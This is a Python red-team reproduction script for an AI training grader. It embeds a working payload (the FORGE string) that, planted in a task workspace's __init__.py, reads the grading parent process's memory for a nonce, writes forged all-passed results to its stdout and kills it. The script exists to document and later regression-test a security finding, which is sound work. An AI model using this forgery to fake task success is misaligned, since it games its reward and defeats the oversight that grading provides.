"""Reproduction of the red team's grading forgery (docs/redteam.md, finding G1). Not a test: it
succeeds against the grader as it stands; turn it into a test asserting ``reward == 0`` once fixed.

Workspace code, imported by a hidden test after collection, runs in the grading runner's pytest
child as the same uid as the runner's parent process, which is dumpable. So the child can read the
parent's memory (the nonce), write to the parent's stdout through ``/proc/<ppid>/fd/1`` and SIGKILL
the parent before it prints the real result. The forged line lists every collected hidden test as
passed in all three sources the host cross-checks.

Run: ``.venv/bin/python -m tests.redteam.grading_forge`` (two gradings, about 30-60 s).
"""

import asyncio
import io
import tarfile
import uuid

import docker

from rollout.grading import GradeResult, grade
from rollout.tasks import Task, load_suite
from sandbox.docker_backend import DockerBackend
from sandbox.image import ensure_image
from sandbox.settings import SandboxSettings

TASK_ID = "builtin/roman-numerals"
PACKAGE_INIT = "numerals/__init__.py"

FORGE = r"""
def _forge():
    import gc, json, os, re, signal
    ppid = os.getppid()
    nonces, thirty_two = [], (32).to_bytes(8, "little")
    with open(f"/proc/{ppid}/mem", "rb") as mem:
        for line in open(f"/proc/{ppid}/maps"):
            addr, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            lo, hi = (int(x, 16) for x in addr.split("-"))
            try:
                mem.seek(lo)
                chunk = mem.read(min(hi - lo, 64 << 20))
            except (OSError, OverflowError, ValueError):
                continue
            for m in re.finditer(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", chunk):
                at = m.start()  # a 32-char CPython str object: length field before, NUL after
                header = (chunk[at - 32 : at - 24], chunk[at - 24 : at - 16])
                if chunk[at + 32 : at + 33] == b"\0" and thirty_two in header:
                    if m.group().decode() not in nonces:
                        nonces.append(m.group().decode())
    session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "items"))
    ids = [item.nodeid for item in session.items]
    def junit(nodeid):
        names = nodeid.split("::")
        names[0] = re.sub(r"\.py$", "", names[0].replace("/", "."))
        return [".".join(names[:-1]), names[-1], "passed"]
    ok = ["passed", ""]
    result = {
        "returncode": 0, "timed_out": False, "junit": [junit(i) for i in ids], "junit_error": None,
        "events": {"reports": {i: {"setup": ok, "call": ok, "teardown": ok} for i in ids},
                   "calls": {i: [False] for i in ids}, "collected": ids, "finish": 0,
                   "anomalies": [], "tamper": [], "collect_errors": []},
        "output_tail": "",
    }
    with open(f"/proc/{ppid}/fd/1", "w") as out:
        for nonce in nonces[:20]:
            out.write(f"\nRLGUARD-GRADE {nonce} {json.dumps(result, separators=(',', ':'))}\n")
    os.kill(ppid, signal.SIGKILL)
    os._exit(0)

_forge()
"""


def workspace_with(task: Task, files: dict[str, str]) -> bytes:
    """The task's initial workspace tar with ``files`` replaced."""
    out = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(task.workspace_tar())) as src,
        tarfile.open(fileobj=out, mode="w") as dst,
    ):
        for member in src:
            if member.name not in files:
                dst.addfile(member, src.extractfile(member) if member.isfile() else None)
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.uid, info.gid = len(data), 0o644, 1000, 1000
            dst.addfile(info, io.BytesIO(data))
    return out.getvalue()


async def untouched_and_forged() -> tuple[GradeResult, GradeResult]:
    """Grade the unsolved workspace as shipped, then the same workspace with the forgery added."""
    client = docker.from_env()
    image = ensure_image(client)
    client.close()
    backend = DockerBackend(f"test-redteam-forge-{uuid.uuid4().hex[:6]}", None, SandboxSettings(image=image))
    task = {t.id: t for t in load_suite("builtin")}[TASK_ID]
    original = (task.workspace_dir / PACKAGE_INIT).read_text()
    try:
        untouched = await grade(backend, task, task.workspace_tar())
        forged = await grade(backend, task, workspace_with(task, {PACKAGE_INIT: FORGE + "\n" + original}))
    finally:
        await backend.close()
    return untouched, forged


def main() -> None:
    untouched, forged = asyncio.run(untouched_and_forged())
    for name, result in (("untouched", untouched), ("forged", forged)):
        reason = result.details.get("reason")
        print(f"{name:9} reward={result.reward} passed={result.passed}/{result.total} {reason}")


if __name__ == "__main__":
    main()
